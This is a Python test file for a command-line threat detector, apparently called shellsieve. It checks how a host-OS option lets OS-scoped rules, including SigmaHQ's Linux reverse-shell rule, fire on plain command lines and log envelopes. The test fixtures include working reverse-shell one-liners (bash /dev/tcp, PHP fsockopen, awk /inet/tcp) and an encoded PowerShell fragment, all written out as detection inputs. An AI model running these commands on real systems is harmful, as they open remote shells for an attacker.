"""`--host-os`: plain command lines get a host.os.type (guessed, forced or none), so OS-scoped public
rules run on them; an event's own host.os.type is never replaced."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from conftest import PHP_FSOCKOPEN, RULESETS, rule_ids
from format_samples import WRITERS
from test_envelopes import run_raw
from test_formats import LINUX_SCENARIOS, WINDOWS_SCENARIOS
from shellsieve.cli import build, main
from shellsieve.compile.ruleset import Ruleset
from shellsieve.events.hostos import os_of_command
from shellsieve.settings import Settings

PHP_LINE = "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
# SigmaHQ's "Suspicious Reverse Shell Command Line": logsource product linux, category none
SIGMA_LINUX = RULESETS / "sigma" / "linux" / "builtin" / "lnx_shell_susp_rev_shells.yml"
SIGMA_LINUX_ID = "738d9bcf-6999-4fdb-b4ac-3033037db8ab"
AWK_SHELL = "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c} }}'"


def _host_os(out: bytes) -> Any:
    host = msgspec.json.decode(out).get("host")
    return host.get("os", {}).get("type") if isinstance(host, dict) else None


@pytest.fixture(scope="module")
def sigma_linux() -> Ruleset:
    if not SIGMA_LINUX.is_file():
        pytest.skip("the public rulesets are not in ../shared/rulesets")
    _, ruleset, _ = build([SIGMA_LINUX])
    assert ruleset.rules
    return ruleset


class TestGuess:
    @pytest.mark.parametrize("line,os_type", [
        ("ls -la /var/log", "linux"),
        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "linux"),
        ("C:\\Windows\\System32\\whoami.exe /all", "windows"),
        ("cmd /c dir", "windows"),
        ("powershell -nop -enc SQBFAFgA", "windows"),
        ("net use \\\\fileserver\\share", "windows"),
        ("python payload.py", "linux"),
        ("copy x.ps1 y", "windows"),
    ])
    def test_auto(self, line: str, os_type: str) -> None:
        """auto reads a Windows marker (drive path, UNC path, .exe/.ps1, cmd /c, powershell) as windows, else linux."""
        assert os_of_command("auto", line) == os_type

    @pytest.mark.parametrize("host_os,want", [("linux", "linux"), ("windows", "windows"), ("macos", "macos"),
                                              ("none", None)])
    def test_forced_and_none(self, host_os: str, want: str | None) -> None:
        """A forced OS applies whatever the line looks like; none gives no OS."""
        assert os_of_command(host_os, "C:\\x.exe") == want


class TestCommandLines:
    def test_default_is_auto(self, shipped: Ruleset) -> None:
        """Without the option a plain command line alert carries host.os.type linux."""
        assert Settings().host_os == "auto"
        out, _ = run_raw(shipped, [PHP_LINE.encode()])
        assert _host_os(out[0]) == "linux"

    def test_windows_looking_line(self, shipped: Ruleset) -> None:
        """Under auto a cmd.exe-typed command is windows."""
        out, _ = run_raw(shipped, [b"cmd /c php -r \"$s=fsockopen('10.10.10.10',9001);\""])
        assert rule_ids(msgspec.json.decode(out[0])) == [PHP_FSOCKOPEN]
        assert _host_os(out[0]) == "windows"

    def test_forced(self, shipped: Ruleset) -> None:
        """--host-os macos names every plain command line macos."""
        out, _ = run_raw(shipped, [PHP_LINE.encode()], host_os="macos")
        assert _host_os(out[0]) == "macos"

    def test_none(self, shipped: Ruleset) -> None:
        """--host-os none leaves host.os.type absent, as before the option existed."""
        out, _ = run_raw(shipped, [PHP_LINE.encode()], host_os="none")
        assert rule_ids(msgspec.json.decode(out[0])) == [PHP_FSOCKOPEN]
        assert "host" not in msgspec.json.decode(out[0])


class TestNeverOverride:
    def test_auditd_is_linux(self, shipped: Ruleset) -> None:
        """auditd events are linux whatever --host-os says."""
        out, _ = run_raw(shipped, WRITERS["auditd"](LINUX_SCENARIOS[0][1]), host_os="windows")
        assert [_host_os(x) for x in out if rule_ids(msgspec.json.decode(x))] == ["linux"]

    def test_sysmon_keeps_its_os(self, shipped: Ruleset) -> None:
        """A Sysmon for Windows event alerts as windows under --host-os linux."""
        lines = WRITERS["sysmon-winlogbeat"](WINDOWS_SCENARIOS[0][1])
        assert run_raw(shipped, lines, host_os="linux")[0] == run_raw(shipped, lines, host_os="none")[0]

    def test_ecs_event_is_read_as_sent(self, shipped: Ruleset) -> None:
        """An ECS event is never given an OS: its output is the same under every --host-os."""
        lines = WRITERS["ecs"](LINUX_SCENARIOS[0][1])
        assert run_raw(shipped, lines, host_os="windows")[0] == run_raw(shipped, lines, host_os="none")[0]

    def test_envelope_own_os_wins(self, shipped: Ruleset) -> None:
        """An envelope naming its host's OS (Filebeat's host.os.type) gives that OS to the line it carries."""
        env = {"host": {"os": {"type": "windows"}}, "message": PHP_LINE}
        out, _ = run_raw(shipped, [msgspec.json.encode(env)], host_os="linux")
        assert _host_os(out[0]) == "windows"


class TestScopedPublicRule:
    def test_sigma_linux_rule_fires_on_plain_command_line(self, sigma_linux: Ruleset) -> None:
        """SigmaHQ's linux-scoped reverse-shell rule fires on a bare command line under the default auto."""
        out, _ = run_raw(sigma_linux, [AWK_SHELL.encode()])
        assert rule_ids(msgspec.json.decode(out[0])) == [SIGMA_LINUX_ID]

    def test_sigma_linux_rule_in_envelopes(self, sigma_linux: Ruleset) -> None:
        """It fires on the same line in Vector's and Fluent Bit's envelopes."""
        lines = [msgspec.json.encode({"message": AWK_SHELL, "host": "web-01"}),
                 msgspec.json.encode({"log": AWK_SHELL + "\n", "stream": "stdout"})]
        out, _ = run_raw(sigma_linux, lines)
        assert [rule_ids(msgspec.json.decode(x)) for x in out] == [[SIGMA_LINUX_ID]] * 2

    def test_not_without_an_os(self, sigma_linux: Ruleset) -> None:
        """Under none (the old behaviour) or a windows guess, the linux rule stays silent."""
        assert not rule_ids(msgspec.json.decode(run_raw(sigma_linux, [AWK_SHELL.encode()], host_os="none")[0][0]))
        assert not rule_ids(msgspec.json.decode(run_raw(sigma_linux, [AWK_SHELL.encode()], host_os="windows")[0][0]))


class TestOption:
    def test_cli_refuses_unknown_os(self, capsys: pytest.CaptureFixture[str]) -> None:
        """--host-os bsd stops `run` with exit 2, naming the option."""
        with pytest.raises(SystemExit) as exc:
            main(["run", "--host-os", "bsd"])
        assert exc.value.code == 2
        assert "--host-os" in capsys.readouterr().err

    def test_settings_refuse_unknown_os(self) -> None:
        """Settings built by another driver check the value too."""
        with pytest.raises(ValueError, match="host_os"):
            Settings(host_os="bsd")
